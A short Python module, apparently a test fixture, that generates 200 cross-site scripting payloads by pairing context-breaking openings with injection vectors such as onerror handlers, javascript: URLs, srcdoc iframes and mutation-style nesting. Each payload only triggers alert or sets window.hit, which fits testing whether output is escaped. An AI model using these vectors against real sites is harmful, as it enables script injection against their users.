"""200 texts that run a script where they are not escaped. Each would call `alert` or set `window.hit`."""

__all__ = ["PAYLOADS"]

RUN = "window.hit=1;alert(1)"
OPENINGS = ("", '"', "'", '">', "'>", "</td>", "</style>", "</script>", "</title>", "</textarea>", "-->", "]]>", "</svg>", "</pre>",
            "</text>", "</option></select>", "{{", "`", "\\", "%0a")  # fmt: skip
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f" onmouseover={RUN} autofocus onfocus={RUN} x=",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;">',
    f'<a href="javascript:{RUN}" id=x>x</a><details open ontoggle={RUN}>',
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    f"<foreignObject><body onload={RUN}><video><source onerror={RUN}></foreignObject>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<input autofocus onfocus={RUN}><meta http-equiv=refresh content="0;url=javascript:{RUN}"><base href=//x.invalid/>',
)  # fmt: skip
PAYLOADS = tuple(f"{opening}{vector}" for vector in VECTORS for opening in OPENINGS)
